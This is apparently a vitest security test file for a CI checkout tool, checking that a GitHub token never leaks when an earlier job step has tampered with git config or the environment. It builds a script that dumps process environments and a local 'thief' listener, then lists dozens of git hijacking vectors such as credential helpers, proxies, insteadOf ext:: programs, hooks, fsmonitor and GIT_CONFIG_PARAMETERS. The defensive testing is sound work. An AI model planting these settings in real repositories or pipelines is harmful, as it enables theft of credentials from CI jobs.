import { chmodSync, existsSync, mkdirSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { describe, expect } from 'vitest';
import { checkOutBase } from '../../src/checkout/base-checkout.ts';
import { ensureCommit } from '../../src/checkout/commit.ts';
import { sameTree } from '../../src/checkout/same-tree.ts';
import { gitCredentials } from '../../src/github/git-credentials.ts';
import { type GitHttpServer, serveGit } from '../support/git-server.ts';
import { PLAIN_TARGET } from '../support/plain-target.ts';
import {
  cloneShallow,
  commit,
  git,
  checkoutTest as it,
  newRepository,
  publish,
  type Rig,
} from '../support/repository.ts';

// What an earlier step of the job has left in the checkout and in the environment gets no token, wherever it asks.

const TOKEN = 'ghs_canary0123456789';

interface Scene {
  clone: string;
  base: string;
  server: GitHttpServer;
  /** A program that notes its own environment and those of the processes above it. */
  canary: string;
  /** The address of somebody who listens. */
  thief: string;
  /** All that the canary and the thief have seen, and files that they named. */
  seen(): string;
  close(): Promise<void>;
}

async function scene({ folder }: Rig): Promise<Scene> {
  const source = newRepository(join(folder, 'source'));
  const base = commit(source, { 'server.js': 'old', '.gitattributes': '*.txt filter=spy diff=spy\n', 'a.txt': 'text' });
  const head = commit(source, { 'server.js': 'new' });
  const url = publish(source, join(folder, 'source.git'));
  const clone = cloneShallow(url, join(folder, 'clone'), head);
  const { secret } = gitCredentials(TOKEN, 'http://localhost');
  const server = await serveGit(folder, `basic ${secret}`);
  git(clone, 'remote', 'set-url', 'origin', `${server.url}/source.git`);
  const traces = join(folder, 'traces');
  mkdirSync(traces);
  const canary = join(folder, 'canary.sh');
  const lines = [
    '#!/bin/sh',
    `note=$(mktemp ${traces}/canary-XXXXXX)`,
    'env >> "$note"; pid=$$',
    'for step in 1 2 3 4; do',
    '  tr "\\0" "\\n" < /proc/$pid/environ >> "$note" 2> /dev/null',
    '  tr "\\0" "\\n" < /proc/$pid/cmdline >> "$note" 2> /dev/null',
    '  pid=$(sed -n "s/^PPid:\\t//p" /proc/$pid/status 2> /dev/null); [ "${pid:-1}" -gt 1 ] || break',
    'done; exit 1',
  ];
  writeFileSync(canary, `${lines.join('\n')}\n`);
  chmodSync(canary, 0o755);
  let heard = '';
  const listener = createServer((request, response) => {
    heard += `${request.method} ${request.url} ${request.rawHeaders.join(' ')}\n`;
    response.writeHead(401, { 'www-authenticate': 'Basic realm="x"' }).end();
  }).on('connect', (request, socket) => {
    heard += `CONNECT ${request.url} ${request.rawHeaders.join(' ')}\n`;
    socket.end();
  });
  await new Promise<void>((resolve) => listener.listen(0, '127.0.0.1', resolve));
  return {
    clone,
    base,
    server,
    canary,
    thief: `http://127.0.0.1:${(listener.address() as AddressInfo).port}`,
    seen: () =>
      heard +
      readdirSync(traces)
        .map((name) => readFileSync(join(traces, name), 'utf8'))
        .join('\n'),
    async close() {
      await server.close();
      listener.closeAllConnections();
      await new Promise((resolve) => listener.close(resolve));
    },
  };
}

type Attack = (scene: Scene, folder: string) => Record<string, string> | undefined;

/** Settings by name, in `.git/config` of the checkout. */
const settings =
  (of: (scene: Scene) => Record<string, string>): Attack =>
  (at) => {
    for (const [name, value] of Object.entries(of(at))) git(at.clone, 'config', '--add', name, value);
    return undefined;
  };
/** Variables of the job's environment. */
const variables =
  (of: (scene: Scene, folder: string) => Record<string, string>): Attack =>
  (at, folder) =>
    of(at, folder);
const fileOf = (folder: string, name: string, text: string) => {
  mkdirSync(join(folder, 'left'), { recursive: true });
  writeFileSync(join(folder, 'left', name), text);
  return join(folder, 'left', name);
};

const ATTACKS: Record<string, Attack> = {
  'remote.*.uploadpack': settings(({ canary, clone }) => ({
    'remote.origin.uploadpack': canary,
    'remote.origin.url': clone,
  })),
  'core.sshCommand': settings(({ canary }) => ({
    'core.sshCommand': canary,
    'url.ssh://git@127.0.0.1/.insteadOf': 'http://127.0.0.1',
  })),
  'url.*.insteadOf': settings(({ thief, server }) => ({ [`url.${thief}/.insteadOf`]: `${server.url}/` })),
  'url.*.insteadOf with a program': settings(({ canary, server }) => ({
    [`url.ext::${canary} .insteadOf`]: `${server.url}/`,
    'protocol.ext.allow': 'always',
    'protocol.allow': 'always',
  })),
  'url.*.insteadOf of local paths': settings(({ canary }) => ({
    [`url.ext::${canary} .insteadOf`]: '/',
    'protocol.ext.allow': 'always',
  })),
  'remote.*.vcs': settings(({ canary }) => ({ 'remote.origin.vcs': canary.slice(1) })),
  'credential.helper': settings(({ canary }) => ({ 'credential.helper': `!${canary}` })),
  'credential.*.helper': settings(({ canary, server }) => ({ [`credential.${server.url}.helper`]: canary })),
  'core.askPass': settings(({ canary }) => ({ 'core.askPass': canary })),
  'http.proxy': settings(({ thief }) => ({ 'http.proxy': thief })),
  'http.*.proxy': settings(({ thief, server }) => ({ [`http.${server.url}.proxy`]: thief })),
  'remote.*.proxy': settings(({ thief }) => ({ 'remote.origin.proxy': thief })),
  'http.sslVerify and http.curloptResolve': settings(({ server, thief }) => ({
    'http.sslVerify': 'false',
    [`http.${server.url}.sslVerify`]: 'false',
    'http.curloptResolve': `localhost:80:${new URL(thief).hostname}`,
  })),
  'http.cookieFile': (at, folder) =>
    settings(() => ({ 'http.cookieFile': join(folder, 'traces/cookies'), 'http.saveCookies': 'true' }))(at, folder),
  'include.path': (at, folder) =>
    settings(() => ({
      'include.path': fileOf(folder, 'included', `[http]\n\tproxy = ${at.thief}\n[core]\n\taskPass = ${at.canary}\n`),
    }))(at, folder),
  'core.gitProxy': settings(({ canary }) => ({
    'core.gitProxy': canary,
    'url.git://127.0.0.1/.insteadOf': 'http://127.0.0.1',
  })),
  'core.alternateRefsCommand': settings(({ canary }) => ({ 'core.alternateRefsCommand': canary })),
  'core.fsmonitor and hooks': (at, folder) => {
    mkdirSync(join(folder, 'hooks'));
    for (const hook of ['reference-transaction', 'post-checkout', 'post-index-change', 'proc-receive', 'update']) {
      writeFileSync(join(folder, 'hooks', hook), `#!/bin/sh\nexec ${at.canary}\n`, { mode: 0o755 });
      writeFileSync(join(at.clone, '.git/hooks', hook), `#!/bin/sh\nexec ${at.canary}\n`, { mode: 0o755 });
    }
    const { canary } = at;
    return settings(() => ({ 'core.hooksPath': join(folder, 'hooks'), 'core.fsmonitor': canary }))(at, folder);
  },
  'filters, textconv and diffs': settings(({ canary }) => ({
    'filter.spy.smudge': `sh -c "${canary}; cat"`,
    'filter.spy.clean': `sh -c "${canary}; cat"`,
    'diff.spy.textconv': canary,
    'diff.external': canary,
  })),
  'pagers and editors': settings(({ canary }) => ({
    'core.pager': canary,
    'pager.fetch': 'true',
    'pager.rev-parse': canary,
    'core.editor': canary,
  })),
  'uploadpack.packObjectsHook': settings(({ canary }) => ({ 'uploadpack.packObjectsHook': canary })),
  'gc and maintenance': settings(({ canary }) => ({ 'gc.auto': '1', 'gc.recentObjectsHook': canary })),
  'trace2 and init': settings(({ canary }) => ({
    'trace2.eventTarget': canary,
    'trace2.configParams': '*',
    'init.templateDir': canary,
  })),
  'fetch settings': settings(() => ({
    'fetch.negotiationAlgorithm': 'skipping',
    'fetch.fsckObjects': 'true',
    'fetch.writeCommitGraph': 'true',
    'remote.origin.fetch': '+refs/*:refs/*',
    'remote.origin.prune': 'true',
    'remote.origin.tagOpt': '--tags',
  })),
  'an alias of a command': settings(({ canary }) => ({ 'alias.fetch': `!${canary}`, 'alias.worktree': `!${canary}` })),
  GIT_SSH_COMMAND: variables(({ canary }) => ({ GIT_SSH_COMMAND: canary, GIT_SSH: canary, GIT_PROXY_COMMAND: canary })),
  GIT_ASKPASS: variables(({ canary }) => ({ GIT_ASKPASS: canary, SSH_ASKPASS: canary })),
  GIT_TRACE_CURL: variables((_, folder) => ({
    GIT_TRACE_CURL: join(folder, 'traces/curl'),
    GIT_TRACE: join(folder, 'traces/trace'),
    GIT_TRACE2_EVENT: join(folder, 'traces/trace2'),
    GIT_TRACE2_ENV_VARS:
      'GIT_CONFIG_VALUE_0,GIT_CONFIG_VALUE_14,GIT_CONFIG_VALUE_15,GIT_CONFIG_VALUE_16,GIT_CONFIG_VALUE_17',
    GIT_TRACE_REDACT: '0',
    GIT_CURL_VERBOSE: '1',
  })),
  GIT_CONFIG_PARAMETERS: variables(({ thief, canary }) => ({
    GIT_CONFIG_PARAMETERS: `'http.proxy'='${thief}' 'core.askPass'='${canary}'`,
  })),
  GIT_CONFIG_COUNT: variables(({ thief, canary }) => ({
    GIT_CONFIG_COUNT: '2',
    GIT_CONFIG_KEY_0: 'http.proxy',
    GIT_CONFIG_VALUE_0: thief,
    GIT_CONFIG_KEY_1: 'credential.helper',
    GIT_CONFIG_VALUE_1: `!${canary}`,
  })),
  'settings of the user and the machine': variables(({ thief, canary }, folder) => {
    const file = fileOf(folder, '.gitconfig', `[http]\n\tproxy = ${thief}\n[credential]\n\thelper = !${canary}\n`);
    mkdirSync(join(folder, 'left/git'));
    writeFileSync(join(folder, 'left/git/config'), readFileSync(file));
    return {
      GIT_CONFIG_GLOBAL: file,
      GIT_CONFIG_SYSTEM: file,
      HOME: join(folder, 'left'),
      XDG_CONFIG_HOME: join(folder, 'left'),
    };
  }),
  'GIT_EXEC_PATH and GIT_TEMPLATE_DIR': variables(({ canary }, folder) => {
    mkdirSync(join(folder, 'left/hooks'), { recursive: true });
    for (const name of ['git-remote-http', 'git-upload-pack', 'hooks/reference-transaction']) {
      writeFileSync(join(folder, 'left', name), `#!/bin/sh\nexec ${canary}\n`, { mode: 0o755 });
    }
    return { GIT_EXEC_PATH: join(folder, 'left'), GIT_TEMPLATE_DIR: join(folder, 'left') };
  }),
  'a proxy of the environment': variables(({ thief }) => ({
    http_proxy: thief,
    HTTP_PROXY: thief,
    https_proxy: thief,
    HTTPS_PROXY: thief,
    all_proxy: thief,
    ALL_PROXY: thief,
    no_proxy: '',
  })),
  '.netrc': variables((_, folder) => {
    fileOf(folder, '.netrc', 'machine 127.0.0.1 login x password y\n');
    return { HOME: join(folder, 'left') };
  }),
  alternates: ({ clone }, folder) => {
    mkdirSync(join(clone, '.git/objects/info'), { recursive: true });
    writeFileSync(join(clone, '.git/objects/info/alternates'), `${join(folder, 'nowhere')}\n`);
    return undefined;
  },
};

/** What does not let the base be fetched, because the checkout itself cannot be used any more; no token goes anywhere. */
const BREAKS = ['url.*.insteadOf of local paths', 'GIT_EXEC_PATH and GIT_TEMPLATE_DIR'];

describe('T9: the token does not reach', () => {
  it.for(Object.entries(ATTACKS))('%s', async ([name, attack], { rig }) => {
    const at = await scene(rig);
    const before = { ...process.env };
    try {
      Object.assign(process.env, attack(at, rig.folder));
      const { config, secret } = gitCredentials(TOKEN, at.server.url);
      const remote = { from: ['origin', `${at.server.url}/source.git`], config };
      const own = rig.gitIn(at.clone);
      const outcome = await measured(rig, at, own, remote);
      expect(outcome).toMatch(BREAKS.includes(name) ? /./ : /^old$/);
      const seen = at.seen();
      expect(seen).not.toContain(secret);
      expect(seen).not.toContain(TOKEN);
    } finally {
      for (const key of Object.keys(process.env)) if (!(key in before)) delete process.env[key];
      Object.assign(process.env, before);
      await at.close();
    }
  });

  it('a canary that works: one that is given the token sees it', async ({ rig }) => {
    const at = await scene(rig);
    git(at.clone, 'config', 'alias.look', `!${at.canary}`);
    await rig
      .gitIn(at.clone)
      .with([['http.extraheader', TOKEN]])
      .find(['look']);
    expect(at.seen()).toContain(TOKEN);
    await at.close();
  });
});

/** Goes the way of a run. @returns what the base has, or why there is none */
async function measured(
  rig: Rig,
  { clone, base }: Scene,
  own: ReturnType<Rig['gitIn']>,
  remote: Parameters<typeof ensureCommit>[2],
): Promise<string> {
  try {
    await ensureCommit(own, base, remote);
    await sameTree(own, base, []);
    const temporary = join(rig.folder, 'temporary');
    mkdirSync(temporary);
    const target = { ...PLAIN_TARGET, workingDirectory: clone, paths: [] };
    const checkout = await checkOutBase(own, base, { target, remote, temporary, processes: rig.processes });
    const file = join(checkout.target.workingDirectory, 'server.js');
    const text = existsSync(file) ? readFileSync(file, 'utf8') : 'nothing';
    await checkout.close();
    return text;
  } catch (error) {
    return (error as Error).message;
  }
}
